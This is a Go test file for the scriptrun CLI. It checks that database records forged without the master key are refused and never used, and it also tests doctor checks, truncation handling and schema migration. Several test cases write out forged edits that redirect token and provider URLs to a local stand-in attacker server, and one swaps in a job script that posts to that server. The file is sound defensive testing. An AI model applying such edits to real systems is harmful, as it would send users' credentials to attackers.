package main

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/scriptrun/scriptrun/store"
	"github.com/scriptrun/scriptrun/store/storetest"
	"github.com/scriptrun/scriptrun/tokens"
)

// recorder is a real HTTP server that keeps every request it receives.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string // method, URL, Authorization and body of each request
}

func newRecorder(t *testing.T, handler func(w http.ResponseWriter, r *http.Request)) *recorder {
	rec := &recorder{}
	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rec.mu.Lock()
		rec.reqs = append(rec.reqs, fmt.Sprintf("%s %s auth=%q body=%q", r.Method, r.URL, r.Header.Get("Authorization"), body))
		rec.mu.Unlock()
		if handler != nil {
			handler(w, r)
		}
	}))
	t.Cleanup(rec.Close)
	return rec
}

func (r *recorder) seen() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.reqs...)
}

// Secrets of the tampered home; none may ever reach the attacker.
const (
	tamperClientSecret = "client-secret-LEGIT-7777"
	tamperRefresh      = "refresh-token-SECRET-4444"
	tamperBearer       = "bearer-SECRET-5555"
	tamperOldBearer    = "old-bearer-SECRET-6666"
)

// tamperHome is a home whose database someone without the key edits.
type tamperHome struct {
	c                  *cli
	db                 string
	key                []byte
	provider, api, bad *recorder
}

// newTamperHome seeds a home (through the store, with the key from the
// environment): provider graph, an oauth2 token mail whose access token
// has expired (so it is refreshed), bearer tokens static and fine, an
// expired bearer token old, and jobs sync and report.
func newTamperHome(t *testing.T) *tamperHome {
	t.Helper()
	h := &tamperHome{c: newCLI(t)}
	h.provider = newRecorder(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"access_token":"new-access","token_type":"Bearer","expires_in":3600}`)
	})
	h.api = newRecorder(t, nil)
	h.bad = newRecorder(t, nil)
	key := storetest.Key()
	h.c.env["SCRIPTRUN_MASTER_KEY"] = hex.EncodeToString(key)
	h.db, h.key = filepath.Join(h.c.home, "scriptrun.db"), key
	db := storetest.OpenIn(t, h.c.home, key)
	storetest.AllowDamaged(t, db) // the tests forge its records
	past := time.Now().Add(-time.Hour).UTC()
	job := func(name, url string) store.Job {
		return store.Job{Name: name, Schedule: "@daily", ScriptName: name + ".js", Timeout: 10 * time.Second, Enabled: true,
			Script: fmt.Sprintf("const r = http.get(%q).send(); console.log('status', r.status)\n", url)}
	}
	err := db.Update(func(tx *store.Tx) error {
		if err := tx.CreateProvider(store.Provider{
			Name: "graph", ClientID: "app-1", ClientSecret: tamperClientSecret, GrantType: store.GrantAuthorizationCode,
			AuthURL: h.provider.URL + "/authorize", TokenURL: h.provider.URL + "/token", AuthStyle: store.AuthStyleBody,
			Scopes: []string{"Mail.Read", "offline_access"},
		}); err != nil {
			return err
		}
		for _, tk := range []store.Token{
			{Name: "mail", Type: store.TypeOAuth2, Provider: "graph", Active: true, State: store.StateAuthorized, BaseURL: h.api.URL,
				Expires: past, Secret: store.Secret{AccessToken: "expired-access", RefreshToken: tamperRefresh, TokenType: "Bearer"}},
			{Name: "static", Type: store.TypeBearer, Active: true, BaseURL: h.api.URL, Secret: store.Secret{AccessToken: tamperBearer}},
			{Name: "fine", Type: store.TypeBearer, Active: true, BaseURL: h.api.URL, Secret: store.Secret{AccessToken: "fine-bearer-0000"}},
			{Name: "old", Type: store.TypeBearer, Active: true, BaseURL: h.api.URL, Expires: past, Secret: store.Secret{AccessToken: tamperOldBearer}},
		} {
			if err := tx.CreateToken(tk); err != nil {
				return err
			}
		}
		if err := tx.CreateJob(job("sync", h.api.URL+"/sync")); err != nil {
			return err
		}
		return tx.CreateJob(job("report", h.api.URL+"/report"))
	})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// forge rewrites one record in the file with bbolt, as someone with write
// access to scriptrun.db but not the key can: the JSON is edited, the MAC
// header in front of it (if any) is left as it was.
func (h *tamperHome) forge(t *testing.T, bucket, name string, edit func(rec map[string]any)) {
	t.Helper()
	storetest.ForgeJSON(t, h.db, bucket, []byte(name), edit)
}

// runScript runs src as a script in the home.
func (h *tamperHome) runScript(t *testing.T, src string) (int, string, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "s.js")
	if err := os.WriteFile(path, []byte(src), 0o600); err != nil {
		t.Fatal(err)
	}
	return h.c.run("run", path)
}

// Each security-relevant field forged in the database without the key: on
// b0ecf99 the forgery was acted on (a secret reached the attacker's server,
// or the swapped script ran); now the record is refused with an error
// naming it and the fix, nothing is sent, and the lists show it as damaged
// beside the others.
func TestForgedDatabaseRefused(t *testing.T) {
	tests := []struct {
		name, bucket, record string
		edit                 func(h *tamperHome) func(map[string]any)
		// act uses the forged record; it returns the exit code and stderr.
		act func(t *testing.T, h *tamperHome) (int, string)
		// list names the list command that must show the record damaged.
		list string
	}{
		{
			name: "provider token URL", bucket: "providers", record: "graph",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["tokenUrl"] = h.bad.URL + "/token" }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.c.run("token", "refresh", "mail")
				return code, errs
			},
			list: "provider",
		},
		{
			name: "provider token URL, through a script", bucket: "providers", record: "graph",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["tokenUrl"] = h.bad.URL + "/token" }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.runScript(t, fmt.Sprintf("http.get(%q).apiTokenAuth('mail').send()\n", h.api.URL+"/me"))
				return code, errs
			},
			list: "provider",
		},
		{
			name: "provider scopes", bucket: "providers", record: "graph",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["scopes"] = []string{"Mail.Send", "Files.ReadWrite.All"} }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.c.run("token", "refresh", "mail")
				return code, errs
			},
			list: "provider",
		},
		{
			name: "provider authorization URL", bucket: "providers", record: "graph",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["authorizationUrl"] = h.bad.URL + "/authorize" }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				db, err := store.Open(h.db, h.key, store.Options{})
				if err != nil {
					return 1, err.Error()
				}
				m := tokens.New(tokens.Options{DB: db})
				defer m.Close()
				a, err := m.Authorize("mail", "http://127.0.0.1:8765/oauth/callback")
				if err != nil {
					return 1, err.Error()
				}
				// What the admin's browser would open.
				resp, err := http.Get(a.URL)
				if err == nil {
					resp.Body.Close()
				}
				return 0, "authorization URL " + a.URL
			},
			list: "provider",
		},
		{
			name: "token base URL", bucket: "tokens", record: "static",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["baseUrl"] = h.bad.URL }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.runScript(t, fmt.Sprintf("http.get(%q).apiTokenAuth('static').send()\n", h.bad.URL+"/collect"))
				return code, errs
			},
			list: "token",
		},
		{
			name: "oauth2 token base URL", bucket: "tokens", record: "mail",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["baseUrl"] = h.bad.URL }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.runScript(t, fmt.Sprintf("http.get(%q).apiTokenAuth('mail').send()\n", h.bad.URL+"/collect"))
				return code, errs
			},
			list: "token",
		},
		{
			name: "token type", bucket: "tokens", record: "static",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["type"] = store.TypeOAuth2; r["provider"] = "graph" }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.runScript(t, fmt.Sprintf("http.get(%q).apiTokenAuth('static').send()\n", h.api.URL+"/me"))
				return code, errs
			},
			list: "token",
		},
		{
			name: "token scopes", bucket: "tokens", record: "mail",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["scopes"] = []string{"Mail.Send"} }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.c.run("token", "refresh", "mail")
				return code, errs
			},
			list: "token",
		},
		{
			name: "token expiry", bucket: "tokens", record: "old",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) { r["expires"] = "2099-01-01T00:00:00Z" }
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.runScript(t, fmt.Sprintf("http.get(%q).apiTokenAuth('old').send()\n", h.api.URL+"/me"))
				return code, errs
			},
			list: "token",
		},
		{
			name: "job script and its SHA-256", bucket: "cronjobs", record: "sync",
			edit: func(h *tamperHome) func(map[string]any) {
				return func(r map[string]any) {
					src := fmt.Sprintf("http.post(%q).send('swapped script ran')\n", h.bad.URL+"/ran")
					r["script"], r["scriptSha256"] = src, store.ScriptDigest(src)
				}
			},
			act: func(t *testing.T, h *tamperHome) (int, string) {
				code, _, errs := h.c.run("cron", "run", "sync")
				return code, errs
			},
			list: "cron",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newTamperHome(t)
			h.forge(t, tt.bucket, tt.record, tt.edit(h))
			code, errs := tt.act(t, h)
			if got := h.bad.seen(); len(got) > 0 {
				t.Errorf("the attacker's server received %d request(s): %q", len(got), got)
			}
			for _, r := range append(h.api.seen(), h.provider.seen()...) {
				for _, secret := range []string{tamperClientSecret, tamperRefresh, tamperBearer, tamperOldBearer} {
					if strings.Contains(r, secret) {
						t.Errorf("a request carried a secret of the forged home: %s", r)
					}
				}
			}
			if code != exitScript || !strings.Contains(errs, "damaged") || !strings.Contains(errs, fmt.Sprintf("%q", tt.record)) ||
				!strings.Contains(errs, "restore") {
				t.Errorf("using the forged %s %q: exit %d, stderr %q; want a failure naming it as damaged and saying restore or re-create", tt.bucket, tt.record, code, errs)
			}
			for _, bad := range []string{"panic", "goroutine "} {
				if strings.Contains(errs, bad) {
					t.Errorf("stderr looks like a crash: %s", errs)
				}
			}
			checkListsShowDamaged(t, h, tt.list, tt.record)
		})
	}
}

// checkListsShowDamaged runs token, provider and cron list: each succeeds,
// the forged record is a row in state damaged, the others are listed as
// usual.
func checkListsShowDamaged(t *testing.T, h *tamperHome, kind, record string) {
	t.Helper()
	want := map[string][]string{"token": {"mail", "static", "fine", "old"}, "provider": {"graph"}, "cron": {"sync", "report"}}
	for _, list := range []string{"token", "provider", "cron"} {
		code, out, errs := h.c.run(list, "list")
		if code != 0 {
			t.Errorf("%s list: exit %d\n%s%s", list, code, out, errs)
			continue
		}
		for _, name := range want[list] {
			var row string
			for _, line := range strings.Split(out, "\n") {
				if f := strings.Fields(line); len(f) > 0 && f[0] == name {
					row = line
				}
			}
			switch {
			case row == "":
				t.Errorf("%s list has no row for %s:\n%s", list, name, out)
			case list == kind && name == record && !strings.Contains(row, "damaged"):
				t.Errorf("%s list row of the forged %s does not say damaged: %q", list, name, row)
			case (list != kind || name != record) && strings.Contains(row, "damaged"):
				t.Errorf("%s list shows %s as damaged: %q", list, name, row)
			}
		}
		if list == kind && !strings.Contains(errs, "restore") {
			t.Errorf("%s list does not warn about the damaged %s on stderr: %q", list, record, errs)
		}
	}
}

// Records the admin cannot see in a list (the admin password) are reported
// by doctor, which fails.
func TestDoctorReportsDamagedRecords(t *testing.T) {
	h := newTamperHome(t)
	h.c.stdin = "correct horse battery staple\n"
	h.c.must("admin", "password")
	h.forge(t, "admin", "password", func(r map[string]any) { r["set"] = "2001-01-01T00:00:00Z" })
	h.forge(t, "tokens", "fine", func(r map[string]any) { r["active"] = false })
	code, out, _ := h.c.run("doctor", "--offline")
	if code != exitScript || !strings.Contains(out, "admin password: damaged") || !strings.Contains(out, "token fine: damaged") ||
		!strings.Contains(out, "scriptrun --home "+shellQuote(h.c.home)+" admin password") {
		t.Errorf("doctor: exit %d\n%s\nwant a failure for the admin password and token fine", code, out)
	}
}

// doctor fails a home, database or key that other users can write.
func TestDoctorFailsWritableFiles(t *testing.T) {
	for _, tt := range []struct{ name, file string }{{"home", ""}, {"database", "scriptrun.db"}, {"key", "master.key"}} {
		t.Run(tt.name, func(t *testing.T) {
			c := newCLI(t)
			c.must("token", "list") // creates the home, key and database
			path := filepath.Join(c.home, tt.file)
			mode := os.FileMode(0o620)
			if tt.file == "" {
				mode = 0o730
			}
			if err := os.Chmod(path, mode); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.Chmod(path, 0o700) })
			code, out, _ := c.run("doctor", "--offline")
			if code != exitScript || !strings.Contains(out, "fail  "+tt.name) || !strings.Contains(out, "chmod") {
				t.Errorf("doctor with %s mode %04o: exit %d\n%s", tt.name, mode, code, out)
			}
		})
	}
}

// A database cut short gives the damaged error naming the file, exit 1,
// never SIGBUS and a goroutine dump.
func TestTruncatedDatabase(t *testing.T) {
	h := newTamperHome(t)
	full, err := os.ReadFile(h.db)
	if err != nil {
		t.Fatal(err)
	}
	page := os.Getpagesize()
	for _, cut := range []int{10, page, 2*page + 100, 3 * page, 5*page - 1} {
		t.Run(fmt.Sprint(cut), func(t *testing.T) {
			if err := os.WriteFile(h.db, full[:cut], 0o600); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.WriteFile(h.db, full, 0o600) })
			for _, args := range [][]string{{"token", "list"}, {"cron", "list"}, {"token", "show", "fine"}} {
				code, _, errs := h.c.run(args...)
				if code != exitScript || !strings.Contains(errs, "damaged") || !strings.Contains(errs, h.db) || !strings.Contains(errs, "restore a backup") {
					t.Errorf("%s on a file cut at %d: exit %d, stderr %q; want 1 and the damaged error naming the file", strings.Join(args, " "), cut, code, errs)
				}
				if strings.Contains(errs, "goroutine ") || strings.Contains(errs, "SIGBUS") {
					t.Errorf("%s crashed: %s", strings.Join(args, " "), errs)
				}
			}
		})
	}
}

// A home written by the schema 1 release (store/testdata/v1-home.db, key
// 0x07 × 32) is migrated by the first command run with its key, and every
// record reads as before; with another key nothing is changed.
func TestSchema1HomeMigrates(t *testing.T) {
	c := newCLI(t)
	fixture, err := os.ReadFile("../../store/testdata/v1-home.db")
	if err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(c.home, "scriptrun.db")
	if err := os.WriteFile(db, fixture, 0o600); err != nil {
		t.Fatal(err)
	}
	c.env["SCRIPTRUN_MASTER_KEY"] = strings.Repeat("ab", 32)
	if code, _, errs := c.run("token", "list"); code != exitWrongKey || !strings.Contains(errs, "another master key") {
		t.Fatalf("token list with another key: exit %d, %s", code, errs)
	}
	if now, _ := os.ReadFile(db); !bytes.Equal(now, fixture) {
		t.Fatal("a command with the wrong key changed the schema 1 file")
	}
	c.env["SCRIPTRUN_MASTER_KEY"] = strings.Repeat("07", 32)
	out := c.must("token", "list")
	for _, want := range []string{"graph-mail", "static-api", "authorized"} {
		if !strings.Contains(out, want) {
			t.Errorf("token list after migration does not show %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "damaged") {
		t.Errorf("token list after migration shows damaged records:\n%s", out)
	}
	if out := c.must("cron", "list"); !strings.Contains(out, "nightly") || strings.Contains(out, "damaged") {
		t.Errorf("cron list after migration:\n%s", out)
	}
	if out := c.must("provider", "show", "graph"); !strings.Contains(out, "••••1234") {
		t.Errorf("provider show after migration (client secret masked to its last 4):\n%s", out)
	}
}
